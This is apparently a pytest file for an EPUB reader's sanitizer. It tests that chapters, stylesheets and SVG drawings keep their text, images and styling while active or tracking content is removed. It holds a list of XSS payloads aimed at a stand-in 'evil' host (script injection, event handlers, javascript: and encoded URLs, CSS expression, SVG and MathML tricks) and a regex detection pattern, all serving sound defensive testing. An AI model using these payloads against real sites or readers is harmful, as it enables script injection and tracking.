"""What a chapter may bring along: text, pictures of the book, its look. Nothing that acts or calls home."""

import re

import pytest

from bookroom.epub.chapters import clean_chapter
from bookroom.epub.css import clean_sheet, clean_style
from bookroom.epub.links import Names
from bookroom.epub.svg import clean_file
from tests.bookroom.epubs import xhtml

NAMES = Names(
    chapters={"OEBPS/c1.xhtml": 1, "OEBPS/c2.xhtml": 2},
    resources={"OEBPS/pic.png": "1.png", "OEBPS/look.css": "2.css", "OEBPS/font.otf": "3.otf"},
)
XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"'
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" {XLINK} viewBox="0 0 9 9">{{}}</svg>'
ACTIVE = re.compile(
    r"<script|javascript:|vbscript:|data:|\son\w+\s*=|<iframe|<object|<embed|<form|<input|<button|<meta http|<base|"
    r"<foreignobject|<animate|<set|<audio|<video|expression\(|@import|evil|<link rel=\"(?!stylesheet)",
    re.IGNORECASE,
)
ATTACKS = [
    "<script>evil()</script>",
    "<script src='http://evil/x.js'/>",
    "<p onclick='evil()'>一</p>",
    "<img src='x' onerror='evil()'/>",
    "<body onload='evil()'><p>一</p></body>",
    "<a href='javascript:evil()'>一</a>",
    "<a href='&#106;avascript:evil()'>一</a>",
    "<a href='java\tscript:evil()'>一</a>",
    "<a href='data:text/html,evil'>一</a>",
    "<a href='vbscript:evil'>一</a>",
    "<a href='file:///etc/evil'>一</a>",
    "<iframe src='http://evil/'>一</iframe>",
    "<object data='http://evil/'>一</object>",
    "<embed src='http://evil/'/>",
    "<form action='http://evil/'><input name='x'/><button>一</button></form>",
    "<meta http-equiv='refresh' content='0;url=http://evil/'/>",
    "<base href='http://evil/'/>",
    "<link rel='prefetch' href='http://evil/'/>",
    "<img src='http://evil/pixel.png'/>",
    "<img src='//evil/pixel.png'/>",
    "<img srcset='http://evil/pixel.png 2x'/>",
    "<video src='http://evil/'/><audio autoplay='' src='http://evil/'/>",
    "<p style='background:url(http://evil/)'>一</p>",
    "<p style='width:expression(evil())'>一</p>",
    "<p style='behavior:url(#evil)'>一</p>",
    "<style>@import 'http://evil/x.css'; p { background: url(//evil/) }</style>",
    "<style>a</style><script>evil()</script>",
    SVG.format("<script>evil()</script>"),
    SVG.format("<foreignObject><body onload='evil()'/></foreignObject>"),
    SVG.format("<a xlink:href='javascript:evil()'><text>一</text></a>"),
    SVG.format("<image xlink:href='http://evil/x.png'/>"),
    SVG.format("<use xlink:href='http://evil/x.svg#a'/>"),
    SVG.format("<animate attributeName='href' values='javascript:evil()'/>"),
    SVG.format("<rect fill='url(http://evil/)' onload='evil()' width='1'/>"),
    "<math xmlns='http://www.w3.org/1998/Math/MathML'><maction href='javascript:evil()'>一</maction></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=evil()></style></mglyph></table></mtext></math>",
    "<p epub:type='footnote' xmlns:ev='http://www.w3.org/2001/xml-events' ev:event='click' ev:handler='#evil'>一</p>",
    "<template><script>evil()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=evil()>'/></noscript>",
    "<p><![CDATA[<script>evil()</script>]]></p>",
    "<plaintext><script>evil()</script></plaintext>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_attack_leaves_nothing_that_acts(attack):
    shown = clean_chapter(xhtml(attack).encode(), "OEBPS/c1.xhtml", NAMES).html
    harmless = re.sub(r"&lt;script&gt;evil\(\)&lt;/script&gt;", "", shown)
    assert ACTIVE.findall(harmless) == []


def body(markup: str, **options) -> str:
    html = clean_chapter(xhtml(markup, **options).encode(), "OEBPS/c1.xhtml", NAMES).html
    return re.search(r"<body[^>]*>\n(.*)\n</body>", html, re.DOTALL)[1]


@pytest.mark.parametrize(
    ("written", "kept"),
    [
        ("<p>一<br/>二</p>", '<p data-b="1">一<br>二</p>'),
        ("<p><a id='x'/>一</p>", '<p data-b="1"><a id="x"></a>一</p>'),
        (
            "<p><ruby>工<rp>(</rp><rt>gōng</rt><rp>)</rp></ruby></p>",
            '<p data-b="1"><ruby>工<rp>(</rp><rt>gōng</rt><rp>)</rp></ruby></p>',
        ),
        ("<p epub:type='z' class='k'>一&nbsp;二</p>", '<p class="k" data-b="1">一&nbsp;二</p>'),
        ("<img src='pic.png' alt='图'/>", '<img src="../r/1.png" alt="图">'),
        ("<img src='../OEBPS/pic.png'/>", '<img src="../r/1.png">'),
        ("<p style='color:red; position:fixed'>一</p>", '<p style="color: red" data-b="1">一</p>'),
        (SVG.format("<image xlink:href='pic.png'/>"), '<img src="../r/1.png" alt="">'),
    ],
)
def test_what_belongs_to_a_book_stays(written, kept):
    assert body(written) == kept


def test_links_lead_to_our_names():
    shown = body("<p><a href='c2.xhtml#s'>二</a><a href='#s'>此</a><a href='gone.xhtml'>无</a></p>")
    assert re.findall(r'href="([^"]*)"', shown) == ["2.html#s", "#s"]


def test_link_outside_tells_nobody_where_it_came_from():
    assert 'rel="noopener noreferrer nofollow"' in body("<p><a href='https://example.org/'>外</a></p>")


def test_paragraphs_are_numbered_as_their_texts_are():
    chapter = clean_chapter(
        xhtml("<h1>题</h1><div>开头<p>第一段<ruby>工<rt>gōng</rt></ruby></p><ul><li>条</li></ul></div>").encode(),
        "",
        NAMES,
    )
    assert chapter.paragraphs == ["题", "开头", "第一段工", "条"]
    assert re.findall(r'<(\w+) data-b="(\d)"', chapter.html) == [("h1", "1"), ("div", "2"), ("p", "3"), ("li", "4")]


def test_sheet_keeps_its_look_and_our_names_only():
    sheet = (
        "@import url(evil.css); @charset 'utf-8'; @font-face { font-family: 宋; src: url(font.otf) } "
        "p { color: red; position: fixed; background: url('pic.png') } "
        "@media print { b { margin: 0; background: url(http://evil/) } } a { width: expression(evil()) }"
    )
    assert clean_sheet(sheet, lambda href: NAMES.picture("OEBPS/look.css", href, prefix="")) == (
        '@font-face { font-family: 宋; src: url("3.otf") }\n'
        'p { color: red; background: url("1.png") }\n@media print {\nb { margin: 0 }\n}'
    )


@pytest.mark.parametrize("style", ["position:FIXED", "position:/**/fixed", "posi\\74ion:fixed", "position:sticky"])
def test_nothing_is_laid_over_the_reader(style):
    assert clean_style(style, lambda href: href) == ""


def test_drawing_keeps_its_shapes():
    data = SVG.format("<script>evil()</script><path d='M0 0h9' onclick='evil()' fill='url(#g)'/>").encode()
    assert b'<path d="M0 0h9" fill="url(#g)"/>' in clean_file(data, str)
    assert b"evil" not in clean_file(data, str)


def test_drawing_that_is_a_page_is_no_drawing():
    assert clean_file(xhtml("<p>一</p>").encode(), str) is None


@pytest.mark.parametrize("encoding", ["gb18030", "utf-16", "utf-8"])
def test_old_encodings_are_read(encoding):
    text = xhtml("<p>安全第一</p>").replace("utf-8", encoding)
    assert clean_chapter(text.encode(encoding), "", NAMES).paragraphs == ["安全第一"]
